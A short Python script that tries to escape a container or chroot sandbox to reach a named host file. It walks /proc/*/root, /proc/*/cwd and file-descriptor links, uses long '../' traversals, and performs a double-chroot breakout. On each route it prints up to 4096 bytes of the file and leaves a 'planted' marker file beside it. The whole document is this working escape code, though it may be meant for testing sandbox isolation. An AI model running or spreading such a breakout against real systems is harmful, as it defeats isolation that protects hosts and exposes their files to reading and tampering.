"""escapes PATH: every route by which a host path may be reached from inside; writes what it finds there to stdout."""

import contextlib
import os
import sys
from collections.abc import Iterator


def directories() -> Iterator[str]:
    """Yield whatever may lead to another root than ours."""
    for pid in filter(lambda name: name.isdigit() or name in {"self", "thread-self"}, os.listdir("/proc")):
        yield f"/proc/{pid}/root"
        yield f"/proc/{pid}/cwd"
        with contextlib.suppress(OSError):
            yield from (f"/proc/{pid}/fd/{name}" for name in os.listdir(f"/proc/{pid}/fd"))


def routes(path: str) -> Iterator[str]:
    up = "/.." * 40
    yield path
    yield f"/..{up}{path}"
    for directory in directories():
        yield f"{directory}{path}"
        yield f"{directory}{up}{path}"


def take(path: str) -> None:
    with contextlib.suppress(OSError, UnicodeDecodeError):
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        print(path, os.read(fd, 4096).decode(), flush=True)
    with contextlib.suppress(OSError):
        os.close(os.open(f"{os.path.dirname(path)}/planted", os.O_CREAT | os.O_WRONLY, 0o644))


def double_chroot(path: str) -> None:
    """Leave a root by keeping a directory outside of a deeper one (chroot(2))."""
    with contextlib.suppress(OSError):
        outside = os.open("/", os.O_RDONLY)
        os.makedirs("/tmp/deeper", exist_ok=True)
        os.chroot("/tmp/deeper")
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    take(path)


if __name__ == "__main__":
    for route in routes(sys.argv[1]):
        take(route)
    double_chroot(sys.argv[1])
